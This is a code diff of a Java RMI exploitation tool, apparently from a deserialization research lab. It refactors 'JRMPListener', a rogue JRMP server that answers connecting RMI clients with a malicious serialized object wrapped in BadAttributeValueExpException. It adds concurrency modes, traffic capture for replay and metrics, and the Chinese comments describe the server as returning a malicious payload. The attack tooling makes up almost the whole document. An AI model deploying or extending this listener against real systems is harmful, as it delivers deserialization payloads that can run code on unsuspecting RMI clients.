@@ -3,44 +3,53 @@ package org.su18.serialize.rmi.client.exploit;
 import javassist.ClassClassPath;
 import javassist.ClassPool;
 import javassist.CtClass;
-import sun.rmi.transport.TransportConstants;
-
-import javax.management.BadAttributeValueExpException;
-import javax.net.ServerSocketFactory;
-import java.io.*;
-import java.lang.reflect.Field;
-import java.net.*;
-import java.rmi.MarshalException;
-import java.rmi.server.ObjID;
-import java.rmi.server.UID;
-import java.util.Arrays;
+import org.su18.serialize.lab.AsyncLog;
+import org.su18.serialize.rmi.jrmp.JRMPCapture;
+import org.su18.serialize.rmi.jrmp.JRMPServer;
+import org.su18.serialize.rmi.jrmp.ReturnResponder;
+
+import java.io.File;
+import java.io.IOException;
+import java.io.Serializable;
+import java.util.concurrent.TimeUnit;
 
 import static org.su18.serialize.rmi.client.exploit.RMIClientExploitServer.getEvilClass;
 
 /**
+ * 返回恶意 payload 的 JRMP 服务端，payload 放在 BadAttributeValueExpException 中回显
+ * <p>
+ * 连接处理由 JRMPServer 完成，支持线程池、NIO、虚拟线程三种并发方式，返回数据由 ReturnResponder 编码并缓存
+ * <p>
+ * 构造时只编码返回数据，不绑定端口。start 绑定端口并在后台线程中处理连接，run 在 start 之后阻塞到 close，
+ * 与原来在 run 中处理连接的用法一致
+ * <p>
+ * 用法：java JRMPListener [端口] [pool|nio|virtual] [抓包文件]，-Dsu18.log=false 关闭日志，运行时统计可以通过 JMX 查看，
+ * 抓包文件可以用 JRMPReplayer 回放
+ *
  * @author su18
  */
 public class JRMPListener implements Runnable {
 
-	private int port;
-
-	private Object payloadObject;
+	private final ReturnResponder responder;
 
-	private ServerSocket ss;
+	private final JRMPServer server;
 
-	private Object waitLock = new Object();
+	private JRMPCapture capture;
 
-	private boolean exit;
+	private boolean started;
 
-	private boolean hadConnection;
 
-	private URL classpathUrl;
+	public JRMPListener(int port, Object payloadObject) throws NumberFormatException, IOException {
+		this(port, payloadObject, JRMPServer.Mode.POOL);
+	}
 
+	public JRMPListener(int port, Object payloadObject, JRMPServer.Mode mode) throws IOException {
+		this(port, payloadObject, mode, ReturnResponder.BAD_ATTRIBUTE_VALUE);
+	}
 
-	public JRMPListener(int port, Object payloadObject) throws NumberFormatException, IOException {
-		this.port = port;
-		this.payloadObject = payloadObject;
-		this.ss = ServerSocketFactory.getDefault().createServerSocket(this.port);
+	protected JRMPListener(int port, Object payloadObject, JRMPServer.Mode mode, ReturnResponder.Wrapper wrapper) throws IOException {
+		this.responder = new ReturnResponder(payloadObject, wrapper, null);
+		this.server = new JRMPServer(port, responder, mode);
 	}
 
 	public static void main(String[] args) throws Exception {
@@ -48,9 +57,14 @@ public class JRMPListener implements Runnable {
 		final Object payloadObject = getEvilClass();
 
 		try {
-			int port = 13333;
-			System.err.println("* Opening JRMP listener on " + port);
-			JRMPListener c = new JRMPListener(port, payloadObject);
+			int             port = args.length > 0 ? Integer.parseInt(args[0]) : 13333;
+			JRMPServer.Mode mode = args.length > 1 ? JRMPServer.Mode.valueOf(args[1].toUpperCase()) : JRMPServer.Mode.POOL;
+			System.err.println("* Opening JRMP listener on " + port + " (" + mode + ")");
+			JRMPListener c = new JRMPListener(port, payloadObject, mode);
+			if (args.length > 2) {
+				c.capture(new File(args[2]));
+			}
+			c.start().closeOnExit();
 			c.run();
 		} catch (Exception e) {
 			System.err.println("Listener error");
@@ -59,167 +73,111 @@ public class JRMPListener implements Runnable {
 	}
 
 
+	/**
+	 * 绑定端口并开始处理连接，重复调用只启动一次
+	 *
+	 * @return 返回自身
+	 * @throws IOException 绑定失败
+	 */
+	public synchronized JRMPListener start() throws IOException {
+		if (!started) {
+			server.start();
+			started = true;
+		}
+		return this;
+	}
+
+	/**
+	 * 启动后阻塞直到 close 被调用
+	 */
 	public void run() {
 		try {
-			Socket s = null;
-			try {
-				while (!this.exit && (s = this.ss.accept()) != null) {
-					try {
-						s.setSoTimeout(5000);
-						InetSocketAddress remote = (InetSocketAddress) s.getRemoteSocketAddress();
-						System.err.println("Have connection from " + remote);
-
-						InputStream is    = s.getInputStream();
-						InputStream bufIn = is.markSupported() ? is : new BufferedInputStream(is);
-
-						// Read magic (or HTTP wrapper)
-						bufIn.mark(4);
-						DataInputStream in    = new DataInputStream(bufIn);
-						int             magic = in.readInt();
-
-						short version = in.readShort();
-						if (magic != TransportConstants.Magic || version != TransportConstants.Version) {
-							s.close();
-							continue;
-						}
-
-						OutputStream         sockOut = s.getOutputStream();
-						BufferedOutputStream bufOut  = new BufferedOutputStream(sockOut);
-						DataOutputStream     out     = new DataOutputStream(bufOut);
-
-						byte protocol = in.readByte();
-						switch (protocol) {
-							case TransportConstants.StreamProtocol:
-								out.writeByte(TransportConstants.ProtocolAck);
-								if (remote.getHostName() != null) {
-									out.writeUTF(remote.getHostName());
-								} else {
-									out.writeUTF(remote.getAddress().toString());
-								}
-								out.writeInt(remote.getPort());
-								out.flush();
-								in.readUTF();
-								in.readInt();
-							case TransportConstants.SingleOpProtocol:
-								doMessage(s, in, out, this.payloadObject);
-								break;
-							default:
-							case TransportConstants.MultiplexProtocol:
-								System.err.println("Unsupported protocol");
-								s.close();
-								continue;
-						}
-
-						bufOut.flush();
-						out.flush();
-					} catch (InterruptedException e) {
-						return;
-					} catch (Exception e) {
-						e.printStackTrace(System.err);
-					} finally {
-						System.err.println("Closing connection");
-						s.close();
-					}
-
-				}
-
-			} finally {
-				if (s != null) {
-					s.close();
-				}
-				if (this.ss != null) {
-					this.ss.close();
-				}
+			start();
+			while (!server.awaitTermination(1, TimeUnit.DAYS)) {
+				// wait
 			}
-
-		} catch (SocketException e) {
-			return;
-		} catch (Exception e) {
-			e.printStackTrace(System.err);
+		} catch (IOException e) {
+			e.printStackTrace();
+		} catch (InterruptedException e) {
+			Thread.currentThread().interrupt();
 		}
 	}
 
-
-	private void doMessage(Socket s, DataInputStream in, DataOutputStream out, Object payload) throws Exception {
-		System.err.println("Reading message...");
-
-		int op = in.read();
-
-		switch (op) {
-			case TransportConstants.Call:
-				// service incoming RMI call
-				doCall(in, out, payload);
-				break;
-
-			case TransportConstants.Ping:
-				// send ack for ping
-				out.writeByte(TransportConstants.PingAck);
-				break;
-
-			case TransportConstants.DGCAck:
-				UID u = UID.read(in);
-				break;
-
-			default:
-				throw new IOException("unknown transport op " + op);
+	/**
+	 * 停止接收新连接，等待正在处理的连接结束，替代原来的 exit 标记
+	 */
+	public void close() {
+		synchronized (this) {
+			if (started) {
+				server.close();
+			}
+		}
+		if (capture != null) {
+			try {
+				capture.close();
+			} catch (IOException e) {
+				e.printStackTrace();
+			}
 		}
-
-		s.close();
 	}
 
+	/**
+	 * 把之后的连接收发的数据写入抓包文件，close 时关闭。在 start 之前调用可以记录全部连接
+	 *
+	 * @param file 抓包文件
+	 * @throws IOException 打开文件失败
+	 */
+	public void capture(File file) throws IOException {
+		capture = new JRMPCapture(file);
+		server.setCapture(capture);
+	}
 
-	private void doCall(DataInputStream in, DataOutputStream out, Object payload) throws Exception {
-		ObjectInputStream ois = new ObjectInputStream(in) {
-
+	/**
+	 * 进程退出时关闭监听，并输出统计信息
+	 */
+	public void closeOnExit() {
+		Runtime.getRuntime().addShutdownHook(new Thread() {
 			@Override
-			protected Class<?> resolveClass(ObjectStreamClass desc) throws IOException, ClassNotFoundException {
-				if ("[Ljava.rmi.server.ObjID;".equals(desc.getName())) {
-					return ObjID[].class;
-				} else if ("java.rmi.server.ObjID".equals(desc.getName())) {
-					return ObjID.class;
-				} else if ("java.rmi.server.UID".equals(desc.getName())) {
-					return UID.class;
-				}
-				throw new IOException("Not allowed to read object");
+			public void run() {
+				close();
+				AsyncLog.getDefault().flush(1000);
+				System.err.println(server.getMetrics().getSummary());
 			}
-		};
-
-		ObjID read;
-		try {
-			read = ObjID.read(ois);
-		} catch (java.io.IOException e) {
-			throw new MarshalException("unable to read objID", e);
-		}
-
-
-		if (read.hashCode() == 2) {
-			ois.readInt(); // method
-			ois.readLong(); // hash
-			System.err.println("Is DGC call for " + Arrays.toString((ObjID[]) ois.readObject()));
-		}
+		});
+	}
 
-		System.err.println("Sending return with payload for obj " + read);
+	public JRMPServer getServer() {
+		return server;
+	}
 
-		out.writeByte(TransportConstants.Return);// transport op
-		ObjectOutputStream oos = new MarshalOutputStream(out, this.classpathUrl);
+	public ReturnResponder getResponder() {
+		return responder;
+	}
 
-		oos.writeByte(TransportConstants.ExceptionalReturn);
-		new UID().write(oos);
+	/**
+	 * 等待第一个 Call
+	 *
+	 * @param timeout 超时时间（毫秒）
+	 * @return 是否收到过 Call
+	 * @throws InterruptedException 中断异常
+	 */
+	public boolean waitFor(long timeout) throws InterruptedException {
+		return responder.waitFor(timeout);
+	}
 
-		// 使用 BadAttributeValueExpException 回显
-		BadAttributeValueExpException ex    = new BadAttributeValueExpException(null);
-		Field                         field = BadAttributeValueExpException.class.getDeclaredField("val");
-		field.setAccessible(true);
-		field.set(ex, payload);
-		oos.writeObject(ex);
 
-		oos.flush();
-		out.flush();
+	/**
+	 * 更换 payload，重新编码缓存的返回数据
+	 *
+	 * @param payloadObject payload
+	 * @throws IOException 序列化失败
+	 */
+	public void setPayload(Object payloadObject) throws IOException {
+		responder.setPayload(payloadObject);
+	}
 
-		this.hadConnection = true;
-		synchronized (this.waitLock) {
-			this.waitLock.notifyAll();
-		}
+	public Object getPayload() {
+		return responder.getPayload();
 	}
 
 	@SuppressWarnings({"deprecation"})
@@ -244,45 +202,4 @@ public class JRMPListener implements Runnable {
 		private static final long serialVersionUID = 1L;
 
 	}
-
-	static final class MarshalOutputStream extends ObjectOutputStream {
-
-
-		private URL sendUrl;
-
-		public MarshalOutputStream(OutputStream out, URL u) throws IOException {
-			super(out);
-			this.sendUrl = u;
-		}
-
-		MarshalOutputStream(OutputStream out) throws IOException {
-			super(out);
-		}
-
-		@Override
-		protected void annotateClass(Class<?> cl) throws IOException {
-			if (this.sendUrl != null) {
-				writeObject(this.sendUrl.toString());
-			} else if (!(cl.getClassLoader() instanceof URLClassLoader)) {
-				writeObject(null);
-			} else {
-				URL[]  us = ((URLClassLoader) cl.getClassLoader()).getURLs();
-				String cb = "";
-
-				for (URL u : us) {
-					cb += u.toString();
-				}
-				writeObject(cb);
-			}
-		}
-
-
-		/**
-		 * Serializes a location from which to load the specified class.
-		 */
-		@Override
-		protected void annotateProxyClass(Class<?> cl) throws IOException {
-			annotateClass(cl);
-		}
-	}
-}
\ No newline at end of file
+}